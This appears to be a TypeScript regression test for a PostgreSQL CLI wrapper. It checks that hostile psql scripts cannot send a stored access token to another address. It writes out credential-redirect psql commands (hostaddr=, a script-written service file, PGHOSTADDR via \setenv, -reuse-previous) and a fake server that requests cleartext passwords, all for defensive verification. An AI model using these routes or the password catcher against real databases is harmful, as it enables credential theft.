// `pgentra psql` and the libpq routes a hostile psql script can take to another address (issue
// 23): Debian's real psql against the simulated flexible server, run as a real `pgentra` process.
// Each script first proves it is logged in, then tries one route to a server the test controls —
// 127.0.0.2 on the simulated server's port, which asks for a cleartext password and records every
// byte: \connect with hostaddr=, a host list, a service file the script writes itself
// (PGSERVICEFILE via \setenv), PGHOSTADDR via \setenv, and \connect -reuse-previous. libpq looks
// a password up by host NAME, so before the fix each of them sent the token from psql's pgpass
// file to that server; now psql never holds the token, on the Unix socket and on the TCP
// endpoint (--tcp: loopback, one-time SCRAM password — what Windows uses).
import 'reflect-metadata'; // the simulator CA (@peculiar/x509) needs it first
import { spawn } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSignedInProfile, type SignedInProfile } from '../cli/signedInProfile.js';

const keyring = process.env.PGENTRA_KEYRING_READY === '1';
const here = path.dirname(fileURLToPath(import.meta.url));
const repoRoot = path.resolve(here, '../../..');
const JWT = /eyJ[A-Za-z0-9_-]{5,}\.[A-Za-z0-9_-]{5,}\.[A-Za-z0-9_-]*/;
const OTHER_ADDRESS = '127.0.0.2';

let fixture: SignedInProfile | undefined;
let host: string;
let port: number;

beforeAll(async () => {
  if (!keyring) return;
  fixture = await startSignedInProfile('sim admins', 'pgentra-psqlroutes-');
  host = fixture.sim.state.server.host;
  port = fixture.sim.state.server.port;
}, 180_000);

afterAll(async () => {
  await fixture?.stop();
});

interface Catcher {
  received(): Buffer;
  startups(): number;
  /** PasswordMessages ('p') received: any of them would be a credential meant for the profile's server. */
  passwords(): number;
  close(): Promise<void>;
}

/** The other server: no TLS, asks every startup for a cleartext password, records everything. */
async function passwordCatcher(address: string, listenPort: number): Promise<Catcher> {
  const chunks: Buffer[] = [];
  let startups = 0;
  let passwords = 0;
  const sockets = new Set<net.Socket>();
  const server = net.createServer((sock) => {
    sockets.add(sock);
    sock.on('close', () => sockets.delete(sock));
    let buf = Buffer.alloc(0);
    let started = false;
    sock.on('data', (d: Buffer) => {
      chunks.push(d);
      buf = Buffer.concat([buf, d]);
      for (;;) {
        if (!started) {
          if (buf.length < 8) return;
          const len = buf.readInt32BE(0);
          if (buf.length < len) return;
          const code = buf.readInt32BE(4);
          buf = buf.subarray(len);
          if (code === 80877103 || code === 80877104) {
            sock.write('N');
            continue;
          }
          started = true;
          startups++;
          const auth = Buffer.alloc(9);
          auth.write('R', 0);
          auth.writeInt32BE(8, 1);
          auth.writeInt32BE(3, 5); // AuthenticationCleartextPassword
          sock.write(auth);
          continue;
        }
        if (buf.length < 5) return;
        if (buf[0] === 0x70) passwords++;
        const len = buf.readInt32BE(1);
        if (buf.length < len + 1) return;
        buf = buf.subarray(len + 1);
        const msg = Buffer.from('SFATAL\0C28P01\0Mpassword authentication failed\0\0');
        const err = Buffer.alloc(5);
        err.write('E', 0);
        err.writeInt32BE(msg.length + 4, 1);
        sock.end(Buffer.concat([err, msg]));
        return;
      }
    });
    sock.on('error', () => undefined);
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(listenPort, address, () => resolve());
  });
  return {
    received: () => Buffer.concat(chunks),
    startups: () => startups,
    passwords: () => passwords,
    close: () =>
      new Promise((r) => {
        for (const s of sockets) s.destroy();
        server.close(() => r());
      }),
  };
}

function pgentraPsql(args: string[], env: NodeJS.ProcessEnv): Promise<{ code: number | null; out: string; err: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['--import', 'tsx', path.join(here, 'fixtures/cli.ts'), 'psql', ...args], { cwd: repoRoot, env, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
    child.stderr.on('data', (d: Buffer) => (err += d.toString()));
    child.on('exit', (code) => resolve({ code, out, err }));
  });
}

/** psql meta-commands that try to reach OTHER_ADDRESS while psql believes it talks to the profile's host. */
function routes(dir: string): Record<string, string[]> {
  const svc = path.join(dir, 'evil-service.conf');
  return {
    'hostaddr=': [`\\connect 'host=${host} hostaddr=${OTHER_ADDRESS} port=${port} dbname=postgres user=db-admins sslmode=disable'`],
    'a host list': [`\\connect 'host=${host},${host} hostaddr=${OTHER_ADDRESS},127.0.0.1 port=${port},${port} dbname=postgres user=db-admins sslmode=disable'`],
    'a service file written by the script': [
      `\\! printf '[evil]\\nhost=${host}\\nhostaddr=${OTHER_ADDRESS}\\nport=${port}\\ndbname=postgres\\nuser=db-admins\\nsslmode=disable\\n' > ${svc}`,
      `\\setenv PGSERVICEFILE ${svc}`,
      `\\connect service=evil`,
    ],
    'PGHOSTADDR via \\setenv': [`\\setenv PGHOSTADDR ${OTHER_ADDRESS}`, `\\setenv PGSSLMODE disable`, `\\connect 'dbname=postgres user=db-admins'`],
    '\\connect -reuse-previous': [`\\connect -reuse-previous=on 'hostaddr=${OTHER_ADDRESS} sslmode=disable'`],
  };
}

describe.skipIf(!keyring)('pgentra psql: no libpq route takes the token to another address', () => {
  for (const transport of ['unix socket', 'tcp'] as const) {
    for (const name of Object.keys(routes('/x'))) {
      it(`${transport}: ${name}`, async () => {
        const catcher = await passwordCatcher(OTHER_ADDRESS, port);
        const dir = mkdtempSync(path.join(os.tmpdir(), 'pgentra-psqlroutes-script-'));
        const tmp = mkdtempSync(path.join(os.tmpdir(), 'pgentra-psqlroutes-tmp-'));
        try {
          const script = path.join(dir, 'evil.sql');
          writeFileSync(script, [`select 'LOGGED_IN_AS=' || current_user;`, ...(routes(dir)[name] ?? []), `select 'AFTER=' || current_user;`, ''].join('\n'));
          const env = { ...process.env, PGENTRA_HOME: fixture?.home, PGENTRA_PSQL: '/usr/bin/psql', PGENTRA_CLOUD_FILE: '', TMPDIR: tmp };
          const r = await pgentraPsql(['sim admins', ...(transport === 'tcp' ? ['--tcp'] : []), '--', '-X', '-A', '-t', '-w', '-f', script], env);
          // Logged in to the profile's server first: the script ran with a working session.
          expect(r.out.includes('LOGGED_IN_AS=db-admins'), JWT.test(r.err) ? 'psql failed' : r.err).toBe(true);
          // The other server got no password message at all, so certainly no token (booleans: a failure must not print it).
          expect(catcher.passwords(), `password messages at ${OTHER_ADDRESS}`).toBe(0);
          expect(JWT.test(catcher.received().toString('latin1')), `a JWT reached ${OTHER_ADDRESS}`).toBe(false);
          expect(JWT.test(r.out + r.err)).toBe(false);
          // The endpoint's private folder is gone once psql has exited.
          expect(readdirSync(tmp).filter((f) => f.startsWith('pgentra-'))).toEqual([]);
        } finally {
          await catcher.close();
          rmSync(dir, { recursive: true, force: true });
          rmSync(tmp, { recursive: true, force: true });
        }
      });
    }
  }
});
